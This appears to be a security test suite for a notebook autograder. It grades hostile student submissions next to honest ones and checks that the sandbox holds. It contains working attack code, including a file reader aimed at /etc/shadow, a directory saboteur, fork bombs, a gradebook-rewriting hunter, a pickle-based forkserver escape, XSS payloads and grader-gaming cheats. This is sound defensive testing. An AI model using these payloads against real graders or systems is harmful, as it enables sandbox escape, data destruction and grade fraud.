"""Hostile submissions, graded through ``python -m autograde grade`` next to honest students.

One attack class per student. Each attack rides on a known answer (right or wrong) whose
score a control student, graded in the same batch without the attack, shows: the attack
must gain nothing over its control, honest students must keep full marks, nothing the
grader owns may change, no hidden test may reach a feedback page, and a second run of the
batch must give the same grades."""

import ast
import csv
import html
import json
import os
import re
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

from autograde.course import Course
from autograde.publish.leaks import secret_lines

from hostile import grade_leaving_nothing, run_leaving_nothing
from submissions import (
    NOTEBOOKS,
    answer,
    build,
    do_nothing_answer,
    insert_after,
    mutate,
    replay_answer,
    run_grade,
    write,
)

pytestmark = pytest.mark.slow

NB = dict(zip(("01", "02", "03", "04", "05"), NOTEBOOKS))
WRONG_TODO2 = mutate(
    "todo2_solution", "bandwidth_gbps * 1e9 / 8 / 1000", "bandwidth_gbps * 1e9 / 1000"
)
WRONG_TODO3 = mutate(
    "todo3_solution", "if not handoff_state.get(name, False)]", "if name not in handoff_state]"
)
CONSTANT_TODO3 = """def validate_handoff_state(handoff_state, expected_request_id, \
expected_version):
    return {'ready': True, 'missing': [], 'incompatible': []}
"""
ALWAYS_EQUAL_TODO3 = """class _Yes(dict):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False

def validate_handoff_state(handoff_state, expected_request_id, expected_version):
    return _Yes(ready=True, missing=[], incompatible=[])
"""
READER = r"""
import os, pathlib, sys
found, texts = [], []
here = pathlib.Path.cwd()
for folder in [here, *here.parents]:
    try:
        for path in folder.rglob('*'):
            kinds = ('.ipynb', '.db', '.json', '.csv', '.toml', '.py')
            if path.is_file() and path.suffix in kinds and 'site-packages' not in str(path):
                try:
                    text = path.read_text(errors='replace')
                except OSError:
                    continue
                found.append(str(path))
                if 'HIDDEN' in text or 'idea(' in text:
                    texts.append(text)
    except OSError:
        pass
for target in {SECRET_TARGETS}:
    try:
        texts.append(pathlib.Path(target).read_text(errors='replace'))
        found.append(target)
    except OSError:
        pass
# the findings first (what it dumps after may be cut by the output limits), the interpreter's
# own files left out
mine = sorted(p for p in found if not p.startswith(('/usr/', sys.prefix, sys.base_prefix)))
print('READ', len(found), 'FILES:', mine[:300])
for text in texts:
    print(text)
"""
SABOTEUR = r"""
import os, shutil, pathlib
for target in {TARGETS}:
    shutil.rmtree(target, ignore_errors=True)
    try:
        pathlib.Path(target).write_text('owned')
    except OSError:
        pass
here = pathlib.Path.cwd()
for folder in here.parents:
    for path in list(folder.glob('*')):
        shutil.rmtree(path, ignore_errors=True)
        try:
            path.unlink()
        except OSError:
            pass
print('sabotage attempted')
"""
ECHO = (
    """get_ipython().events.register('post_run_cell', lambda result: """
    """print(result.info.raw_cell))"""
)
TRANSFORMER = """get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"""
CUSTOM_EXC = (
    """get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, """
    """tb_offset=None: None)"""
)
PATCHER = """import math, builtins
math.isclose = lambda *args, **kwargs: True
builtins.abs = lambda x: 0
builtins.AssertionError = type('Nothing', (Exception,), {})"""
FLOOD = """print('x' * 60_000_000)"""
DETACHED = """import subprocess
subprocess.Popen(['sleep', '417'], start_new_session=True)
subprocess.Popen(['sh', '-c', 'nohup sleep 418 >/dev/null 2>&1 &'], start_new_session=True)"""
MEMORY = """blob = b'x' * (3 * 2**30)"""
# an answer that reads its caller's bytecode for the decision the test compares with next
PEEK_TODO5 = """import dis, sys
_DECISIONS = {'reject_incorrect_path', 'reject_instrument_fault', 'rerun_on_quiet_machine',
              'accept_physical_overlap', 'tune_overlap_window'}
def decide_overlap(cases, controls):
    if not cases:
        raise ValueError('no cases')
    frame = sys._getframe(1)
    while frame is not None:
        after = False
        for ins in dis.get_instructions(frame.f_code):
            after = after or ins.offset >= frame.f_lasti
            if after and ins.opname == 'LOAD_CONST' and ins.argval in _DECISIONS:
                return ins.argval
        frame = frame.f_back
    return 'tune_overlap_window'
"""
FORKS = """import os, time
children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError as exc:
    print('fork refused after', children, 'children:', type(exc).__name__)"""
HOG = """import os, time
for _ in range(12):
    if os.fork() == 0:
        os.setsid()
        end = time.time() + 40
        while time.time() < end:
            pass
        os._exit(0)"""
MARKUP = "<script>document.title = 'owned'</script>\n" + "<" * 120_000
STICKY_TODO4 = answer("todo4_solution").replace(
    "    if validation['incompatible']:",
    "    validation['_seen'] = True\n    if validation['incompatible']:",
)
NETWORK = """import socket
try:
    socket.create_connection(('127.0.0.1', {PORT}), timeout=3).sendall(b'leak')
    print('NET-' + 'OPEN')
except OSError as exc:
    print('no network:', type(exc).__name__)"""

# The grading workers are forked from a server (autograde/run/launch.py) that unpickles whatever a
# client sends down its socket, outside the sandbox: a submission that reached that socket would run
# code as the grader. This one looks for it (multiprocessing's listener files, every Unix socket the
# kernel lists) and, for each it can connect to, sends what the server's protocol expects, with a
# pickle that creates CANARY when it is loaded.
# Hunts every SQLite file it can reach (the job folder's scratch gradebook, which commits without
# waiting for the disk; the course gradebook; the master's) and writes full marks into each.
GRADEBOOK_HUNT = r"""
import os, sqlite3, time
_found, _changed, _seen = [], [], 0
_deadline = time.time() + 8
_roots = [os.getcwd()]
_d = os.getcwd()
for _ in range(6):
    _d = os.path.dirname(_d); _roots.append(_d)
_roots += ['/tmp', '/dev/shm', os.path.expanduser('~'), '/']
for _root in dict.fromkeys(_roots):
  try:
    for _dirpath, _dirs, _files in os.walk(_root):
        _seen += 1
        if _seen > 40000 or time.time() > _deadline:
            break
        _system = ('proc', 'sys', 'usr', 'lib', 'lib64', 'bin', 'sbin', 'etc')
        _dirs[:] = [d for d in _dirs if d not in _system]
        for _f in _files:
            if _f.endswith('.db') or 'gradebook' in _f:
                _p = os.path.join(_dirpath, _f)
                _found.append(_p)
                try:
                    _c = sqlite3.connect(_p, timeout=1)
                    _sql = "UPDATE grade SET auto_score = 100, manual_score = 100"
                    _n = _c.execute(_sql).rowcount
                    _c.commit(); _c.close()
                    _changed.append((_p, _n))
                except Exception as _e:
                    pass
  except RecursionError:
    pass
print(f"GRADEBOOK-HUNT {_seen} folders, found {len(_found)}, changed {_changed}")"""
WRONG_TODO0 = "def check_overlap(first, second):\n    return {'can_overlap': True, 'reasons': []}\n"

FORKSERVER = r"""
import glob, os, pickle, socket
from multiprocessing import reduction
canary = {CANARY!r}
class Escape:
    def __reduce__(self):
        return (os.system, ('touch ' + canary,))
paths = {PATHS!r} or (
    glob.glob('/tmp/pymp-*/listener-*') + glob.glob('/tmp/**/listener-*', recursive=True)
)
try:
    for line in open('/proc/net/unix').read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and not {PATHS!r}:
            paths.append(parts[7])
except OSError:
    pass
tried = []
for path in sorted(set(paths)):
    try:
        client = socket.socket(socket.AF_UNIX)
        client.settimeout(3)
        client.connect('\0' + path[1:] if path.startswith('@') else path)
    except OSError as exc:
        tried.append((path, type(exc).__name__))
        continue
    child_r, parent_w = os.pipe()
    parent_r, child_w = os.pipe()
    alive_r, alive_w = os.pipe()
    # as multiprocessing's own client: the child's two pipe ends, then the fds it expects to inherit
    reduction.sendfds(client, [child_r, child_w, alive_r, alive_w])
    os.write(parent_w, pickle.dumps(Escape()) * 2)  # the child unpickles its orders from the pipe
    client.close()
    tried.append((path, 'CONNECTED'))
print('FORKSERVER-PROBE', repr(tried))
"""


def grades(out: Path) -> dict[str, dict[str, float]]:
    with open(out / "grades.csv", encoding="utf-8") as handle:
        return {
            row["student_id"]: {
                k: (v if v == "pending" or k == "edition" else float(v))
                for k, v in row.items()
                if k != "student_id"
            }
            for row in csv.DictReader(handle)
        }


def page(out: Path, student: str, notebook: str) -> str:
    return html.unescape(
        re.sub(
            r"<[^>]+>",
            "",
            (out / "feedback" / student / f"{notebook}.html").read_text(encoding="utf-8"),
        )
    )


class Listener:
    """A TCP server on loopback that counts connections (none may arrive)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port, self.accepted, self.stop = self.sock.getsockname()[1], 0, False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.accepted += 1
                conn.close()
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.sock.close()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    base = tmp_path_factory.mktemp("attacks")
    subs, out, rerun = base / "submissions", base / "out", base / "rerun"
    listener = Listener()
    repo = Path(__file__).resolve().parents[3]
    for student in ("honest_a", "honest_z"):
        for name in NOTEBOOKS:
            write(subs, student, name, build(name))
    # controls: the answers the attacks ride on, without the attack
    write(subs, "ctl_wrong2", NB["02"], build(NB["02"], WRONG_TODO2))
    write(subs, "ctl_wrong3", NB["03"], build(NB["03"], WRONG_TODO3))
    write(subs, "ctl_const3", NB["03"], build(NB["03"], {"todo3_solution": CONSTANT_TODO3}))
    # the public checks replayed from a table of their calls (test_replay_attack.py), and its
    # control
    write(
        subs,
        "atk_replay",
        NB["03"],
        build(
            NB["03"], {"todo3_solution": replay_answer("todo3_validate_state", "todo3_solution")}
        ),
    )
    write(
        subs,
        "ctl_none3",
        NB["03"],
        build(NB["03"], {"todo3_solution": do_nothing_answer("todo3_solution")}),
    )
    # exceptions swallowed or cells rewritten through IPython, next to a wrong answer
    write(
        subs,
        "atk_transformer",
        NB["03"],
        insert_after(build(NB["03"], WRONG_TODO3), "todo3_solution", TRANSFORMER),
    )
    write(
        subs,
        "atk_custom_exc",
        NB["03"],
        insert_after(build(NB["03"], WRONG_TODO3), "todo3_solution", CUSTOM_EXC),
    )
    write(
        subs,
        "atk_echo",
        NB["02"],
        insert_after(build(NB["02"], WRONG_TODO2), "todo1_solution", ECHO),
    )
    # patched modules and builtins that tests use
    write(
        subs,
        "atk_patcher",
        NB["02"],
        insert_after(build(NB["02"], WRONG_TODO2), "todo1_solution", PATCHER),
    )
    # an answer whose == always says yes
    write(
        subs, "atk_always_equal", NB["03"], build(NB["03"], {"todo3_solution": ALWAYS_EQUAL_TODO3})
    )
    # an answer that reads the expected decision from its caller's bytecode
    write(subs, "atk_peek", NB["05"], build(NB["05"], {"todo5_solution": PEEK_TODO5}))
    # reading above its folder: the grader's files, the instructor's sources, other students
    targets = [
        str(repo / "solutions" / f"{NB['03']}.ipynb"),
        str(out / ".course" / "judge.json"),
        str(out / ".course" / "gradebook.db"),
        str(subs / "honest_a" / f"{NB['03']}.ipynb"),
        "/etc/shadow",
    ]
    write(
        subs,
        "atk_reader",
        NB["03"],
        insert_after(
            build(NB["03"]), "todo3_solution", READER.replace("{SECRET_TARGETS}", repr(targets))
        ),
    )
    # writing and deleting above its folder
    doomed = [
        str(out / "grades.csv"),
        str(out / ".state"),
        str(out / ".course"),
        str(out / ".work"),
        str(subs),
        str(repo / "solutions"),
    ]
    write(
        subs,
        "atk_saboteur",
        NB["01"],
        insert_after(
            build(NB["01"]), "todo0_solution", SABOTEUR.replace("{TARGETS}", repr(doomed))
        ),
    )
    # resource attacks
    write(subs, "atk_flood", NB["04"], insert_after(build(NB["04"]), "todo4_solution", FLOOD))
    write(subs, "atk_detached", NB["04"], insert_after(build(NB["04"]), "todo4_solution", DETACHED))
    write(subs, "atk_memory", NB["05"], insert_after(build(NB["05"]), "todo5_solution", MEMORY))
    write(subs, "atk_memory", NB["04"], build(NB["04"]))
    write(subs, "atk_forks", NB["01"], insert_after(build(NB["01"]), "todo0_solution", FORKS))
    write(
        subs,
        "atk_network",
        NB["03"],
        insert_after(
            build(NB["03"]), "todo3_solution", NETWORK.replace("{PORT}", str(listener.port))
        ),
    )
    # a wrong answer that hunts for gradebooks to write full marks into, and the same answer alone
    write(
        subs,
        "atk_gradebook",
        NB["01"],
        insert_after(
            build(NB["01"], {"todo0_solution": WRONG_TODO0}), "todo0_solution", GRADEBOOK_HUNT
        ),
    )
    write(subs, "ctl_wrong0", NB["01"], build(NB["01"], {"todo0_solution": WRONG_TODO0}))
    canary = base / "forkserver-escape"
    escape = FORKSERVER.replace("{CANARY!r}", repr(str(canary))).replace("{PATHS!r}", "[]")
    write(subs, "atk_forkserver", NB["01"], insert_after(build(NB["01"]), "todo0_solution", escape))
    # a CPU hog (12 busy processes in new sessions): others must not lose time to it
    write(subs, "atk_hog", NB["02"], insert_after(build(NB["02"]), "todo2_solution", HOG))
    # hostile markup and a quadratic-regex bait in a markdown cell
    markup = build(NB["04"])
    markup.cells.insert(1, nbformat.v4.new_markdown_cell(MARKUP))
    write(subs, "atk_markup", NB["04"], markup)
    # a function that changes its input the same way on every call
    assert STICKY_TODO4 != answer("todo4_solution")
    write(subs, "atk_sticky", NB["04"], build(NB["04"], {"todo4_solution": STICKY_TODO4}))
    # a submission that is a symbolic link to the instructor's answers
    (subs / "atk_symlink").mkdir()
    (subs / "atk_symlink" / f"{NB['03']}.ipynb").symlink_to(
        repo / "solutions" / f"{NB['03']}.ipynb"
    )
    # a file name that is not UTF-8 (matched by its graded cells)
    (subs / "atk_badname").mkdir()
    with open(
        os.fsencode(subs / "atk_badname") + b"/\xff\xfe-work.ipynb", "w", encoding="utf-8"
    ) as handle:
        nbformat.write(build(NB["04"]), handle)
    before = {p: p.read_bytes() for p in (repo / "solutions").glob("*.ipynb")}
    try:
        # each grading's own processes are watched: whatever it leaves running is listed (and ended)
        first, left = grade_leaving_nothing(
            subs,
            out,
            "--workers",
            "2",
            "--cell-timeout",
            "20",
            "--notebook-timeout",
            "120",
            "--memory-limit",
            "1",
        )
        second, left_again = grade_leaving_nothing(
            subs,
            rerun,
            "--workers",
            "2",
            "--cell-timeout",
            "20",
            "--notebook-timeout",
            "120",
            "--memory-limit",
            "1",
        )
    finally:
        listener.close()
    return {
        "subs": subs,
        "out": out,
        "rerun": rerun,
        "grades": grades(out),
        "stdout": first.stdout + second.stdout,
        "summary": json.loads((out / "summary.json").read_text()),
        "listener": listener,
        "canary": canary,
        "sources_before": before,
        "repo": repo,
        "leftovers": left + left_again,
    }


# every TODO's points, from the sources
FULL = {
    c.metadata["nbgrader"]["grade_id"]: c.metadata["nbgrader"]["points"]
    for n in NOTEBOOKS
    for c in nbformat.read(
        Path(__file__).resolve().parents[3] / "solutions" / f"{n}.ipynb", 4
    ).cells
    if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")
}


def test_honest_students_keep_full_marks(attacked):
    for student in ("honest_a", "honest_z"):
        assert attacked["grades"][student]["total"] == sum(FULL.values()), (
            student,
            attacked["grades"][student],
        )


def test_controls_are_partial_so_the_attack_tests_can_fail(attacked):
    g = attacked["grades"]
    assert (
        0 < g["ctl_wrong2"]["todo2_estimate_handoff"] < 3
        and g["ctl_wrong2"]["todo1_exposed_interval"] == 3
    )
    assert 0 < g["ctl_wrong3"]["todo3_validate_state"] < 3
    assert 0 < g["ctl_const3"]["todo3_validate_state"] < 3


@pytest.mark.parametrize(
    "attacker,control,cell",
    [
        ("atk_transformer", "ctl_wrong3", "todo3_validate_state"),
        ("atk_custom_exc", "ctl_wrong3", "todo3_validate_state"),
        ("atk_echo", "ctl_wrong2", "todo2_estimate_handoff"),
        ("atk_patcher", "ctl_wrong2", "todo2_estimate_handoff"),
        ("atk_always_equal", "ctl_const3", "todo3_validate_state"),
        ("atk_replay", "ctl_none3", "todo3_validate_state"),
    ],
)
def test_tampering_gains_nothing(attacked, attacker, control, cell):
    g = attacked["grades"]
    assert g[attacker][cell] == g[control][cell], (
        f"{attacker} scored {g[attacker][cell]} on {cell}, its plain answer {g[control][cell]}"
    )
    assert g[attacker]["total"] <= g[control]["total"]


def test_reading_the_callers_bytecode_finds_no_expected_answer(attacked):
    """In the same process as the hidden tests, the cheat would pass most of TODO 5's ideas; across
    the judge's pipe its caller is the runner, and it earns only what any stub earns."""
    from test_idea_strength import SCAFFOLD_IDEAS, passed_ideas

    namespace: dict = {}
    exec(PEEK_TODO5, namespace)
    in_process = passed_ideas(namespace["decide_overlap"])
    assert {"calibrated_bar", "noisy_machine", "every_payload"} <= in_process, (
        f"the attack is real: {in_process}"
    )
    assert attacked["grades"]["atk_peek"]["todo5_decide_overlap"] == 0.25, (
        "only the scaffold ideas (0.125 + 0.125)"
    )
    assert SCAFFOLD_IDEAS == {"empty_raises", "inputs_unchanged"}


def test_no_feedback_page_shows_a_hidden_test_or_an_answer_it_did_not_write(attacked):
    secrets = secret_lines(Course.load())
    pages = sorted((attacked["out"] / "feedback").rglob("*.html"))
    assert len(pages) >= 20
    for path in pages:
        text = html.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8")))
        assert "BEGIN HIDDEN TESTS" not in text and "@idea(" not in text, path
        lines = {line.strip() for line in text.splitlines()}
        hidden = [
            s for s, where in secrets.items() if where.startswith("hidden test") and s in lines
        ]
        assert not hidden, f"{path}: {hidden[:3]}"
        assert path.stat().st_size < 1_000_000, f"{path} is {path.stat().st_size} bytes"


def test_reading_above_the_folder_finds_nothing(attacked):
    text = page(attacked["out"], "atk_reader", NB["03"])
    listing = re.search(r"^READ (\d+) FILES: (\[.*\])$", text, re.M)
    assert listing, "the reader printed its findings"
    found = eval(listing.group(2))  # a list literal printed by the submission
    grader = [
        str(attacked["out"]),
        str(attacked["subs"]),
        str(attacked["repo"] / "solutions"),
        "/etc/shadow",
    ]
    # its own notebook's course folder (its working folder, under OUT/.work) holds the course's
    # public settings only
    own = {
        path
        for path in found
        if path.startswith(str(attacked["out"] / ".work" / "atk_reader") + "/")
    }
    assert {Path(path).name for path in own} <= {"course.toml"}, (
        f"its own folder shows more than the course's settings: {sorted(own)}"
    )
    leaked = sorted(
        {
            path
            for path in found
            if path not in own and any(path.startswith(place) for place in grader)
        }
    )
    assert not leaked, f"the submission read {leaked}"
    assert "BEGIN SOLUTION" not in text and "@idea(" not in text, (
        "no answer or hidden test was printed"
    )
    assert attacked["grades"]["atk_reader"]["todo3_validate_state"] == 3


def test_writing_above_the_folder_harms_no_one(attacked):
    g = attacked["grades"]
    assert g["atk_saboteur"]["todo0_check_overlap"] == 3, "the saboteur's own answer still counts"
    assert "sabotage attempted" in page(attacked["out"], "atk_saboteur", NB["01"])
    assert all((attacked["subs"] / s).is_dir() for s in ("honest_a", "honest_z")), (
        "submissions survive"
    )
    for path, data in attacked["sources_before"].items():
        assert path.read_bytes() == data, f"{path} changed"
    statuses = {
        (p["student_id"], p["notebook"]): p["status"] for p in attacked["summary"]["problems"]
    }
    assert ("honest_z", NB["01"]) not in statuses and ("honest_a", NB["01"]) not in statuses


def test_a_second_run_gives_the_same_grades(attacked):
    assert (attacked["out"] / "grades.csv").read_text() == (
        attacked["rerun"] / "grades.csv"
    ).read_text()


def test_output_flood_is_cut(attacked):
    path = attacked["out"] / "feedback" / "atk_flood" / f"{NB['04']}.html"
    assert path.stat().st_size < 1_000_000
    text = page(attacked["out"], "atk_flood", NB["04"])
    assert "output dropped" in text or "output cut" in text
    assert attacked["grades"]["atk_flood"]["todo4_plan_decode"] == 2


def test_nothing_a_submission_started_outlives_grading(attacked):
    """Nothing the two gradings started runs after they end: no kernel, runner or sandbox, and
    not atk_detached's sleeps (detached with setsid, one of them orphaned). Only these gradings' own
    processes are looked at (tests/hostile.py, run_leaving_nothing), never another grading's."""
    assert attacked["leftovers"] == []
    assert attacked["grades"]["atk_detached"]["todo4_plan_decode"] == 2


def test_the_leftover_check_sees_what_outlives_its_command():
    """Control: the same detaching code, run outside any sandbox, leaves both sleeps running, and
    the check names them (and ends them), so the test above can fail."""
    import sys

    proc, left = run_leaving_nothing([sys.executable, "-c", DETACHED], grace=1.0)
    assert proc.returncode == 0, proc.stderr
    # sleep 417 runs once Popen returns; the shell's sleep 418 may still be on its way (sh, nohup)
    assert (
        "sleep 417" in left
        and any("418" in c for c in left)
        and all("417" in c or "418" in c for c in left)
    ), left


def test_memory_blowup_stops_only_that_notebook(attacked):
    statuses = {(p["student_id"], p["notebook"]): p for p in attacked["summary"]["problems"]}
    problem = statuses[("atk_memory", NB["05"])]
    assert problem["status"] == "out_of_memory", problem
    assert attacked["grades"]["atk_memory"]["todo4_plan_decode"] == 2


def test_fork_storm_is_bounded(attacked):
    text = page(attacked["out"], "atk_forks", NB["01"])
    assert "fork refused after" in text
    children = int(re.search(r"fork refused after (\d+)", text).group(1))
    assert children < 300
    assert attacked["grades"]["atk_forks"]["todo0_check_overlap"] == 3


def test_no_network(attacked):
    assert attacked["listener"].accepted == 0
    text = page(attacked["out"], "atk_network", NB["03"])
    assert "no network" in text and "NET-OPEN" not in text
    assert attacked["grades"]["atk_network"]["todo3_validate_state"] == 3


def test_the_worker_server_is_out_of_a_submissions_reach(attacked, tmp_path):
    """The forkserver's socket is invisible from the sandbox (its own /tmp, its own network
    namespace), so the escape finds nothing to connect to; the control shows the same code does
    escape from an unsandboxed process that can see a live server's socket."""
    import multiprocessing.forkserver
    import subprocess
    import sys

    text = page(attacked["out"], "atk_forkserver", NB["01"])
    printed = re.search(r"^FORKSERVER-PROBE (\[.*\])$", text, re.M)
    assert printed, "the probe printed what it tried"
    tried = ast.literal_eval(printed.group(1))
    # all it can reach are its own kernel's channels, in its own runtime folder; no server's
    # listener
    assert not [path for path, _ in tried if "pymp-" in path or "listener-" in path], tried
    assert all(
        re.fullmatch(r"/dev/shm/cg-[^/]+/\d+/ipc-\d+", path)
        for path, how in tried
        if how == "CONNECTED"
    ), tried
    assert not attacked["canary"].exists(), "a submission ran code in the grader's worker server"
    assert attacked["grades"]["atk_forkserver"]["todo0_check_overlap"] == 3
    # control: the same code, outside any sandbox, against a server of this process's own
    from autograde.run import launch

    launch._context()
    multiprocessing.forkserver.ensure_running()
    address = multiprocessing.forkserver._forkserver._forkserver_address
    canary = tmp_path / "escaped"
    code = FORKSERVER.replace("{CANARY!r}", repr(str(canary))).replace("{PATHS!r}", repr([address]))
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert f"('{address}', 'CONNECTED')" in proc.stdout, proc.stdout + proc.stderr
    deadline = time.monotonic() + 30
    while not canary.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert canary.exists(), "the control did not escape: the attack would prove nothing"


def test_no_gradebook_is_within_a_submissions_reach(attacked, tmp_path):
    """From the sandbox the hunt finds no SQLite file at all (not the job folder's scratch copy, not
    the course's, not the master's) and its wrong answer earns what the same answer alone earns; the
    control runs the same code unsandboxed next to a gradebook and does rewrite it."""
    import shutil
    import sqlite3
    import subprocess
    import sys

    text = page(attacked["out"], "atk_gradebook", NB["01"])
    printed = re.search(
        r"GRADEBOOK-HUNT (\d+) folders, found (\d+), changed (.*)$", html.unescape(text), re.M
    )
    assert printed, "the hunt printed what it found"
    assert (
        int(printed.group(1)) > 0 and printed.group(2) == "0" and printed.group(3).strip() == "[]"
    ), printed.group(0)
    g = attacked["grades"]
    assert g["atk_gradebook"]["todo0_check_overlap"] == g["ctl_wrong0"]["todo0_check_overlap"] < 3
    assert g["honest_a"]["todo0_check_overlap"] == 3
    # control: the same code, unsandboxed, in a kernel folder beside a job's gradebook
    job = tmp_path / "job"
    (job / "kernel").mkdir(parents=True)
    shutil.copy(attacked["out"] / "gradebook.db", job / "gradebook.db")
    # (only its own folder and the job's: unsandboxed, the full hunt would rewrite other tests'
    # gradebooks)
    nearby = GRADEBOOK_HUNT.replace(
        "_roots += ['/tmp', '/dev/shm', os.path.expanduser('~'), '/']", "_roots = _roots[:2]"
    )
    assert nearby != GRADEBOOK_HUNT
    proc = subprocess.run(
        [sys.executable, "-c", nearby],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=job / "kernel",
    )
    assert f"('{job / 'gradebook.db'}'," in proc.stdout, proc.stdout[-2000:] + proc.stderr[-2000:]
    assert (
        sqlite3.connect(job / "gradebook.db")
        .execute("SELECT max(auto_score) FROM grade")
        .fetchone()[0]
        == 100
    )


def test_summary_records_the_sandbox(attacked):
    sandbox = attacked["summary"]["sandbox"]
    assert sandbox["enabled"] is True and sandbox["memory_limit_bytes"] == 1 << 30


# ---------------------------------------------------------------- the grader's own state
@pytest.fixture(scope="module")
def small_class(tmp_path_factory):
    subs = tmp_path_factory.mktemp("small") / "submissions"
    write(subs, "solo", NB["04"], build(NB["04"]))
    write(
        subs,
        "wrong",
        NB["04"],
        build(
            NB["04"],
            mutate("todo4_solution", "ready_at_ms <= deadline_ms", "ready_at_ms < deadline_ms"),
        ),
    )
    return subs


def test_a_second_run_on_the_same_folder_refuses(small_class, tmp_path):
    import subprocess
    import sys
    import time

    out = tmp_path / "out"
    first = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "autograde",
            "grade",
            str(small_class),
            "--out",
            str(out),
            "--no-progress",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 120
    while not (out / ".work" / ".settings.json").exists() and time.monotonic() < deadline:
        time.sleep(0.2)
    second = run_grade(small_class, out, check=False)
    first.communicate(timeout=600)
    assert second.returncode == 2 and "another grading run is using" in second.stderr, second.stderr
    assert first.returncode == 0
    assert grades(out)["solo"]["todo4_plan_decode"] == 2


def test_tampered_state_is_not_trusted(small_class, tmp_path):
    out = tmp_path / "out"
    run_grade(small_class, out)
    honest = grades(out)
    # a forged record (full marks for the wrong answer) and an edited master
    record = out / ".state" / "wrong" / f"{NB['04']}.json"
    forged = json.loads(record.read_text())
    forged["scores"] = {"todo4_plan_decode": 2.0}
    record.write_text(json.dumps(forged))
    spec = out / ".course" / "judge.json"
    spec.write_text(
        spec.read_text().replace(
            "uses('plan_decode_start')", "uses('plan_decode_start')\\nraise SystemExit"
        )
    )
    proc = run_grade(small_class, out)
    assert "1 reused" in proc.stdout, (
        "the untouched record is reused, the forged one is graded again"
    )
    assert grades(out) == honest and honest["wrong"]["todo4_plan_decode"] < 2
    assert "raise SystemExit" not in spec.read_text(), "the master was rebuilt from the sources"


def test_without_bubblewrap_grading_refuses_unless_told(small_class, tmp_path, monkeypatch):
    monkeypatch.setenv("COURSE_BWRAP", "/nonexistent/bwrap")
    refused = run_grade(small_class, tmp_path / "out", check=False)
    assert (
        refused.returncode == 2
        and "sandbox cannot run here" in refused.stderr
        and "--no-sandbox" in refused.stderr
    )
    allowed = run_grade(small_class, tmp_path / "out2", "--no-sandbox")
    assert "WARNING: grading WITHOUT the sandbox" in allowed.stderr
    summary = json.loads((tmp_path / "out2" / "summary.json").read_text())
    assert summary["sandbox"]["enabled"] is False and "no-sandbox" in summary["sandbox"]["warning"]
    assert grades(tmp_path / "out2")["solo"]["todo4_plan_decode"] == 2, (
        "the judge still decides scores"
    )


def test_cpu_hog_costs_others_nothing(attacked):
    # the honest students ran next to it with two workers; each job gets at most one core
    assert attacked["summary"]["sandbox"].get("cpu_limit_cores") in (1.0, None)
    for student in ("honest_a", "honest_z"):
        assert attacked["grades"][student]["todo2_estimate_handoff"] == 3


def test_markup_is_sanitized_and_cheap(attacked):
    raw = (attacked["out"] / "feedback" / "atk_markup" / f"{NB['04']}.html").read_text(
        encoding="utf-8"
    )
    assert "<script>document.title" not in raw
    assert attacked["grades"]["atk_markup"]["todo4_plan_decode"] == 2


def test_changing_an_input_is_caught_even_when_it_is_the_same_change_each_time(attacked):
    ideas = {}
    for line in (attacked["out"] / "log.jsonl").read_text().splitlines():
        record = json.loads(line)
        if record["student_id"] == "atk_sticky" and record["notebook"] == NB["04"]:
            ideas = {i["id"]: i["status"] for i in record["ideas"]["todo4_plan_decode"]}
    assert (
        ideas["inputs_unchanged"] == "failed"
        and attacked["grades"]["atk_sticky"]["todo4_plan_decode"] == 1.75
    )


def test_symbolic_links_and_odd_names_are_handled(attacked):
    g = attacked["grades"]
    assert g["atk_symlink"]["total"] == 0, "a link to the answers is not a submission"
    assert any(
        "symbolic link" in note for note in attacked["summary"]["matching_notes"]["atk_symlink"]
    )
    assert g["atk_badname"]["todo4_plan_decode"] == 2, (
        "a file name that is not UTF-8 is still graded, and breaks nothing"
    )


# ---------------------------------------------------------------- what the instructor's browser
# shows
XSS_REFLECTION = """My answer.

<script>window.PWN_SCRIPT = 1</script>
<img src=x onerror="window.PWN_IMG = 1">
[click](javascript:window.PWN_LINK=1) and ```` a backtick run ```` to lengthen the fence
"""
XSS_OUTPUTS = """from IPython.display import HTML, Javascript, SVG, Markdown, display
display(HTML("<script>window.PWN_HTML = 1</script><b onmouseover='window.PWN_B = 1'>bold</b>"))
display(Javascript("window.PWN_JS = 1"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>window.PWN_SVG = 1</script></svg>'))
display(Markdown("[md](javascript:window.PWN_MD=1)"))
print('plain output stays')"""
SAFE_MIMES = {"text/plain", "image/png", "image/jpeg"}


def formgrader_html(path: Path) -> str:
    """``path`` rendered the way nbgrader's formgrader renders a submission (its exporter
    settings and its ``formgrade`` template, no sanitizing)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "assignment_id": "a",
        "notebook_id": path.stem,
        "submission_id": "s",
        "index": 0,
        "total": 1,
        "base_url": "",
        "student": "xss",
        "last_name": None,
        "first_name": None,
        "notebook_path": str(path),
    }
    return HTMLExporter(config=config).from_filename(str(path), resources=resources)[0]


def live_markup(page_html: str) -> list[str]:
    """What in a page would run in a browser: a learner's marker inside a <script> element, an
    event-handler attribute (the template's own name toggles aside), a javascript: link."""
    found = [
        body
